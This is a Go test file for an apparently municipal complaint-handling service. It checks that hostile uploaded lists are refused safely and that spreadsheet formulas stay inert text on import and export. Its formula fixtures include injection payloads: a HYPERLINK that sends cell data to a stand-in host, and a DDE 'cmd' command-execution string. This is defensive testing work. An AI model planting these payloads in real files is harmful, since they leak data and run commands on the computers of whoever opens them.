//go:build linux

package outage_test

import (
	"archive/zip"
	"bytes"
	"database/sql"
	"encoding/csv"
	"io"
	"mime/multipart"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode"

	"github.com/stretchr/testify/require"
	"github.com/xuri/excelize/v2"

	"jiaoban/api"
	"jiaoban/internal/app/town"
	"jiaoban/internal/casework"
)

// allowed is how much memory hostile files may take above what the program
// takes anyway, in KiB.
const allowed = 256 << 10

// list is the upload of a list.
func list(t testing.TB, name, lang string, content []byte) request {
	t.Helper()
	var form bytes.Buffer
	w := multipart.NewWriter(&form)
	for field, value := range map[string]string{
		"campaign": town.Campaign, "handed_over_at": casework.InstantOf(time.Now()).String(), "level": "central", "mode": "handed_over",
	} {
		require.NoError(t, w.WriteField(field, value))
	}
	part, err := w.CreateFormFile("file", name)
	require.NoError(t, err)
	_, err = part.Write(content)
	require.NoError(t, err)
	require.NoError(t, w.Close())
	return request{login: "duty", method: http.MethodPost, path: "/api/v1/batches", body: form.Bytes(), kind: w.FormDataContentType(), lang: lang}
}

// Whatever is sent as a list is refused in words, in seconds, in bounded
// memory, and leaves nothing behind.
func TestHostileListsAreRefusedAndLeaveNothing(t *testing.T) {
	t.Parallel()
	dir, scratch := t.TempDir(), t.TempDir()
	seeding := single(t, dir)
	o := openOffice(t, seeding)
	o.signIn("duty")
	seeding.stop()
	// A process that has just seeded a city is no measure of an idle one.
	serve := launch(t, []string{"TMPDIR=" + scratch}, "serve", "--data", dir, "--listen", "127.0.0.1:0", "--log-level", "warn")
	o.base = serve.serving.URL
	db := openFile(t, dir)
	until(t, patience, "the cases of the city have their workflows", func() bool {
		return len(query(t, db, "SELECT id FROM cases WHERE started_epoch < epoch")) == 0
	})
	stored, kept := contents(t, dir), files(t, filepath.Join(dir, "files"))
	bad := hostiles(t)
	idle := serve.kibibytes("VmRSS")
	serve.forgetPeak()

	for _, h := range bad {
		for _, lang := range []string{"zh", "en"} {
			a := o.send(list(t, h.name, lang, h.content))
			p := a.problem(t)
			require.Equal(t, h.code, p.Code, "%s: %s", h.what, p.Detail)
			require.Less(t, a.status, 500)
			require.Equal(t, lang == "zh", strings.ContainsFunc(p.Detail, func(r rune) bool { return unicode.Is(unicode.Han, r) }), p.Detail)
			require.NotContains(t, p.Detail, "{")
			require.Less(t, a.took, 30*time.Second, h.what)
			if lang == "en" {
				t.Logf("%-42s %-20s after %6s, %s", h.what, p.Code, a.took.Round(time.Millisecond), serve.memory())
			}
		}
		require.Less(t, serve.kibibytes("VmHWM")-idle, allowed, h.what)
	}

	// Ten at once, each as large as can be.
	var all sync.WaitGroup
	answers := make([]answer, 10)
	for i := range answers {
		h := bad[len(bad)-1-1-i%5]
		r := list(t, h.name, "zh", h.content)
		all.Go(func() { answers[i], _ = o.try(r) })
	}
	all.Wait()
	for _, a := range answers {
		require.Equal(t, http.StatusUnprocessableEntity, a.problem(t).Status)
	}
	t.Logf("ten at once: %s, idle was %d MiB", serve.memory(), idle>>10)
	require.Less(t, serve.kibibytes("VmHWM")-idle, allowed)

	require.Equal(t, stored, contents(t, dir), "rows were stored")
	require.Equal(t, kept, files(t, filepath.Join(dir, "files")), "files were stored")
	require.Empty(t, files(t, scratch), "files were left behind")
	o.answers("/readyz", http.StatusOK, patience)
	serve.stop()
}

// contents counts the rows of every table of a ledger.
func contents(t testing.TB, dir string) map[string]int {
	t.Helper()
	db := openFile(t, dir)
	names := query(t, db, "SELECT name FROM sqlite_master WHERE type = 'table'")
	require.Greater(t, len(names), 20)
	counts := map[string]int{}
	for _, name := range names {
		var n int
		require.NoError(t, db.QueryRow(`SELECT count(*) FROM "`+name+`"`).Scan(&n))
		counts[name] = n
	}
	return counts
}

func query(t testing.TB, db *sql.DB, statement string) (found []string) {
	t.Helper()
	rows, err := db.Query(statement)
	require.NoError(t, err)
	defer rows.Close()
	for rows.Next() {
		var s string
		require.NoError(t, rows.Scan(&s))
		found = append(found, s)
	}
	require.NoError(t, rows.Err())
	return found
}

// files lists the files below a folder.
func files(t testing.TB, folder string) (found []string) {
	t.Helper()
	require.NoError(t, filepath.WalkDir(folder, func(name string, entry os.DirEntry, err error) error {
		if err == nil && !entry.IsDir() {
			found = append(found, name)
		}
		return err
	}))
	return found
}

// formulas are texts that a spreadsheet program would run.
var formulas = []string{
	`=HYPERLINK("http://example.invalid/?"&A1,"示范")`, `+1+cmd|'/c calc'!A0`, `-2+3+示范`, `@SUM(A1:A9)`, "\t=1+1", "＝1+1",
}

// Formulas in a list are texts like others, on their way in and out.
func TestFormulasStayTexts(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	serve := single(t, dir)
	o := openOffice(t, serve)
	o.signIn("duty", "coordinator")
	var rows [][]string
	for i, f := range formulas {
		number := "示公式" + string(rune('A'+i))
		// A complaint of figures alone is none; the second row lacks its complaint.
		complaint := f + "，夜间噪声扰民"
		rows = append(rows, []string{"1", number, complaint, f, "噪音", f}, []string{"1", number, "", f, f, f})
	}
	var staged api.BatchView
	o.send(list(t, "公式.xlsx", "zh", workbook(t, rows...))).into(t, &staged)
	require.Equal(t, len(formulas), staged.Sum.New)
	require.Equal(t, len(formulas), staged.Sum.Refused)
	refused := o.send(request{login: "duty", path: "/api/v1/batches/" + staged.Batch.ID + "/refused.xlsx"})
	require.Equal(t, http.StatusOK, refused.status)
	harmless(t, refused.body)
	o.send(request{login: "duty", method: http.MethodPost, path: "/api/v1/batches/" + staged.Batch.ID + "/commit"}).into(t, nil)

	out := t.TempDir()
	for _, format := range []string{"csv", "xlsx"} {
		command(t, nil, "export", "--data", dir, "--batch", staged.Batch.ID, "--out", filepath.Join(out, "x."+format))
	}
	table, err := os.ReadFile(filepath.Join(out, "x.xlsx"))
	require.NoError(t, err)
	cells := harmless(t, table)
	text, err := os.ReadFile(filepath.Join(out, "x.csv"))
	require.NoError(t, err)
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(text, []byte("\ufeff")))).ReadAll()
	require.NoError(t, err)
	require.Len(t, records, len(formulas)+1)
	for _, record := range records {
		for _, cell := range record {
			safe(t, cell)
			cells = append(cells, cell)
		}
	}
	for _, f := range formulas {
		require.Contains(t, cells, "'"+strings.TrimSpace(f), "the text is kept")
	}
}

// harmless reads a workbook none of whose cells is a formula, or would become
// one when it is typed in again.
func harmless(t *testing.T, content []byte) (cells []string) {
	t.Helper()
	parts, err := zip.NewReader(bytes.NewReader(content), int64(len(content)))
	require.NoError(t, err)
	for _, part := range parts.File {
		r, err := part.Open()
		require.NoError(t, err)
		text, err := io.ReadAll(r)
		require.NoError(t, err)
		require.NotContains(t, string(text), "<f>", part.Name)
		require.NotContains(t, string(text), "<hyperlink", part.Name)
	}
	book, err := excelize.OpenReader(bytes.NewReader(content))
	require.NoError(t, err)
	defer book.Close()
	for _, sheet := range book.GetSheetList() {
		rows, err := book.GetRows(sheet)
		require.NoError(t, err)
		for _, row := range rows {
			for _, cell := range row {
				safe(t, cell)
				cells = append(cells, cell)
			}
		}
	}
	return cells
}

func safe(t *testing.T, cell string) {
	t.Helper()
	if cell = strings.TrimSpace(cell); cell != "" {
		require.NotContains(t, "=+-@＝＋－＠|%\t", string([]rune(cell)[:1]), cell)
	}
}
